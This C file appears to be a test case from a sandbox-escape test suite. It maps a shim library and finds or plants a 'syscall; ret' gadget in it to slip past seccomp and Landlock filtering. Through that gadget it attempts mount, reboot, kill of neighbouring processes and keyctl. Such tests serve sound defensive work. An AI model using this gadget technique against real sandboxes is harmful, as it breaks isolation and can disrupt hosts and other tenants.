// tries: system calls from the shim's own code: its instructions, mapped and jumped to, must be worth nothing
// wall: seccomp and Landlock do not look at where a call comes from
// control: both
// needs: pods
#include "attack.h"
static long by(const unsigned char *code, long n, long a, long b, long c, long d)
{
    long ret;
    register long r10 __asm__("r10") = d;
    // The library's instruction is followed by code of its own: the one looked for returns at once.
    __asm__ volatile("call *%[code]" : "=a"(ret) : [code] "r"(code), "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "r8", "r9", "memory");
    return ret;
}
ATTACK
{
    char path[512] = {0};
    long size = 0, fd = -1;
    // Where it is: in the environment of every program of a pod; the runner tells as well.
    const char *shim = text("shim");
    fd = sc(__NR_openat, AT(shim), O_RDONLY);
    if (fd < 0) { attempt("opening the library", fd); return; }
    size = sc(__NR_lseek, fd, 0, 2);
    long at = sc(__NR_mmap, 0, size, 5 /* PROT_READ | PROT_EXEC */, 2 /* MAP_PRIVATE */, fd, 0);
    if (at < 0 && at > -4096) { attempt("mapping it", at); return; }
    const unsigned char *code = (const unsigned char *)at, *found = NULL;
    for (long i = 0; i + 3 < size && !found; i++)
        if (code[i] == 0x0f && code[i + 1] == 0x05 && code[i + 2] == 0xc3) found = code + i;
    if (!found) {
        // No instruction of it returns at once: a copy of its bytes, mapped under its name, will do.
        at = sc(__NR_mmap, 0, size, 7, 2, fd, 0);
        if (at < 0 && at > -4096) { attempt("mapping it", at); return; }
        memcpy((char *)at + 0x100, "\x0f\x05\xc3", 3);
        found = (unsigned char *)at + 0x100;
    }
    gate("mount", by(found, __NR_mount, (long)"tmpfs", (long)own(path, ""), (long)"none", 0));
    gate("reboot", by(found, __NR_reboot, 0xfee1deadL, 672274793L, 0x89abcdefL, 0));
    attempt("kill", by(found, __NR_kill, number("victim"), SIGTERM, 0, 0));
    attempt("kill", by(found, __NR_kill, number("neighbour"), SIGTERM, 0, 0));
    gain("keyctl", by(found, __NR_keyctl, 0, -3, 1, 0));
}
